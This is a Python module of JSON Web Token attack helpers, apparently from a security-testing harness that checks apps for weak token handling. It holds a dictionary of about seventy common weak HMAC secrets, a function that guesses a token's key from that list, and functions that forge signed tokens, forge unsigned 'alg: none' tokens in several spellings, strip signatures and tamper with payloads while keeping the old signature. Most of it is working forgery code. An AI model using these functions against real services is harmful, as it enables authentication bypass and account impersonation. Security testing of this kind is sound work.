"""JSON Web Token tools for exploits: read tokens, check signatures, forge tokens.

Only the standard library is used (HMAC signatures, base64url, JSON), so exploits need no JWT
package. Asymmetric algorithms (RS*, ES*, PS*, EdDSA) are read but never verified: a key guess
can only be tested against an HMAC signature.

    header, payload = decode_unverified(token)
    key = find_known_key(token)            # a well-known key the token verifies with, or None
    forged = forge_hs({"sub": "1"}, key)   # a token the app would accept if it trusts `key`
    unsigned = forge_none({"sub": "1"})    # `alg: none`, empty signature
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Iterable, Mapping
from typing import Any

HMAC_ALGORITHMS: dict[str, Any] = {
    "HS256": hashlib.sha256,
    "HS384": hashlib.sha384,
    "HS512": hashlib.sha512,
}

# Keys that tutorials, framework defaults, README examples and generated code use as a JWT secret.
# A token the app issued that verifies with one of them was not signed with the run's APP_SECRET.
WELL_KNOWN_KEYS: tuple[str, ...] = (
    "",
    "secret",
    "Secret",
    "SECRET",
    "secret123",
    "secretkey",
    "secret_key",
    "secret-key",
    "SECRET_KEY",
    "supersecret",
    "supers3cret",
    "supersecretkey",
    "super_secret_key",
    "super-secret-key",
    "super-secret",
    "topsecret",
    "mysecret",
    "mysecretkey",
    "my_secret_key",
    "my-secret-key",
    "my-secret",
    "my_secret",
    "your-secret-key",
    "your_secret_key",
    "your-secret",
    "your_secret",
    "your-secret-key-here",
    "your_secret_key_here",
    "your-jwt-secret",
    "your_jwt_secret",
    "your_jwt_secret_key",
    "your-jwt-secret-key",
    "your-256-bit-secret",
    "jwt_secret",
    "jwt-secret",
    "jwtsecret",
    "JWT_SECRET",
    "jwt_secret_key",
    "jwt-secret-key",
    "APP_SECRET",
    "app_secret",
    "app-secret",
    "appsecret",
    "default",
    "default_secret",
    "default-secret",
    "default_secret_key",
    "default-secret-key",
    "fallback_secret",
    "fallback-secret",
    "fallback-secret-key",
    "dev",
    "dev_secret",
    "dev-secret",
    "dev-secret-key",
    "development",
    "test",
    "testing",
    "key",
    "changeme",
    "change-me",
    "change_me",
    "changeit",
    "change-this-secret",
    "password",
    "123456",
    "1234567890",
    "s3cr3t",
    "shhhhh",
    "keyboard cat",
    "none",
    "null",
    "undefined",
)


class MalformedToken(ValueError):
    """The text is not a compact JWS (three base64url parts with a JSON header)."""


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    """Decode base64url with or without padding; raises MalformedToken on bad input."""
    if not all(c.isalnum() or c in "-_=" for c in text):
        raise MalformedToken(f"not base64url: {text[:40]!r}")
    try:
        return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
    except (binascii.Error, ValueError) as e:
        raise MalformedToken(f"not base64url: {text[:40]!r}") from e


def _json_part(part: str, what: str) -> dict[str, Any]:
    try:
        value = json.loads(b64url_decode(part))
    except (UnicodeDecodeError, json.JSONDecodeError) as e:
        raise MalformedToken(f"the {what} is not JSON") from e
    if not isinstance(value, dict):
        raise MalformedToken(f"the {what} is not a JSON object")
    return value


def split(token: str) -> tuple[str, str, str]:
    """The three parts of a compact JWS; raises MalformedToken."""
    if not isinstance(token, str):
        raise MalformedToken(f"a token is a string, got {type(token).__name__}")
    parts = token.strip().split(".")
    if len(parts) != 3:
        raise MalformedToken(f"a JWT has 3 dot-separated parts, this has {len(parts)}")
    return parts[0], parts[1], parts[2]


def decode_unverified(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """(header, payload) of a JWT, without checking the signature. Raises MalformedToken."""
    header_part, payload_part, signature_part = split(token)
    header = _json_part(header_part, "header")
    payload = _json_part(payload_part, "payload")
    if signature_part:
        b64url_decode(signature_part)
    return header, payload


def is_well_formed(token: object) -> bool:
    """True for a compact JWS whose header names an `alg` and whose payload is a JSON object."""
    try:
        header, _ = decode_unverified(token)  # type: ignore[arg-type]
    except MalformedToken:
        return False
    return isinstance(header.get("alg"), str)


def algorithm(token: str) -> str:
    """The header's `alg` ("" if missing)."""
    header, _ = decode_unverified(token)
    alg = header.get("alg")
    return alg if isinstance(alg, str) else ""


def is_unsigned(token: str) -> bool:
    """True if the token declares `alg: none` (any case) or carries no signature."""
    header, _ = decode_unverified(token)
    alg = header.get("alg")
    return (isinstance(alg, str) and alg.lower() == "none") or split(token)[2] == ""


def _key_bytes(key: str | bytes) -> bytes:
    return key.encode() if isinstance(key, str) else key


def sign_hs(signing_input: str, key: str | bytes, alg: str = "HS256") -> str:
    """The base64url HMAC signature of `header.payload` with `key` under `alg` (HS256/384/512)."""
    digest = HMAC_ALGORITHMS[alg.upper()]
    mac = hmac.new(_key_bytes(key), signing_input.encode("ascii"), digest).digest()
    return b64url_encode(mac)


def verify_hs(token: str, key: str | bytes, algorithms: Iterable[str] | None = None) -> str | None:
    """The HMAC algorithm under which `token`'s signature is valid for `key`, else None.

    By default the algorithm the header names is tried (if it is an HS* one) and then the others,
    so a token whose header lies about its algorithm is still recognised."""
    header_part, payload_part, signature_part = split(token)
    if not signature_part:
        return None
    try:
        signature = b64url_decode(signature_part)
    except MalformedToken:
        return None
    if algorithms is None:
        try:
            named = algorithm(token).upper()
        except MalformedToken:
            named = ""
        order = [named] if named in HMAC_ALGORITHMS else []
        order += [a for a in HMAC_ALGORITHMS if a not in order]
    else:
        order = [a.upper() for a in algorithms if a.upper() in HMAC_ALGORITHMS]
    signing_input = f"{header_part}.{payload_part}".encode("ascii")
    key_bytes = _key_bytes(key)
    for alg in order:
        expected = hmac.new(key_bytes, signing_input, HMAC_ALGORITHMS[alg]).digest()
        if hmac.compare_digest(expected, signature):
            return alg
    return None


def find_known_key(
    token: str, keys: Iterable[str | bytes] = WELL_KNOWN_KEYS
) -> tuple[str | bytes, str] | None:
    """(key, alg) of the first key in `keys` the token's HMAC signature verifies with, else None."""
    for key in keys:
        alg = verify_hs(token, key)
        if alg is not None:
            return key, alg
    return None


def _encode(header: Mapping[str, Any], payload: Mapping[str, Any]) -> str:
    h = b64url_encode(json.dumps(dict(header), separators=(",", ":")).encode())
    p = b64url_encode(json.dumps(dict(payload), separators=(",", ":")).encode())
    return f"{h}.{p}"


def forge_hs(payload: Mapping[str, Any], key: str | bytes, alg: str = "HS256",
             header: Mapping[str, Any] | None = None) -> str:
    """A token for `payload` signed with `key` (what an attacker who knows the key can mint)."""
    full_header = {"alg": alg.upper(), "typ": "JWT", **(header or {})}
    signing_input = _encode(full_header, payload)
    return f"{signing_input}.{sign_hs(signing_input, key, alg)}"


NONE_SPELLINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")


def forge_none(payload: Mapping[str, Any], alg: str = "none",
               header: Mapping[str, Any] | None = None) -> str:
    """An unsigned token (`alg` one of NONE_SPELLINGS, empty signature) for `payload`."""
    full_header = {"alg": alg, "typ": "JWT", **(header or {})}
    return _encode(full_header, payload) + "."


def forge_none_all(payload: Mapping[str, Any]) -> list[str]:
    """Unsigned tokens for `payload` in every spelling of `none` (libraries differ on case)."""
    return [forge_none(payload, alg) for alg in NONE_SPELLINGS]


def strip_signature(token: str) -> str:
    """The token with its signature removed (header and payload unchanged)."""
    header_part, payload_part, _ = split(token)
    return f"{header_part}.{payload_part}."


def tamper_payload(token: str, changes: Mapping[str, Any]) -> str:
    """The token's header, its payload updated with `changes`, and its original signature: a
    server that does not verify signatures accepts it."""
    header_part, _, signature_part = split(token)
    _, payload = decode_unverified(token)
    payload.update(changes)
    p = b64url_encode(json.dumps(payload, separators=(",", ":")).encode())
    return f"{header_part}.{p}.{signature_part}"


TIME_CLAIMS: frozenset[str] = frozenset({"iat", "exp", "nbf", "auth_time"})


def identity_claims(payload: Mapping[str, Any]) -> dict[str, Any]:
    """The payload without time claims (`iat`, `exp`, `nbf`, `auth_time`): what distinguishes
    one user's token from another's."""
    return {k: v for k, v in payload.items() if k not in TIME_CLAIMS}
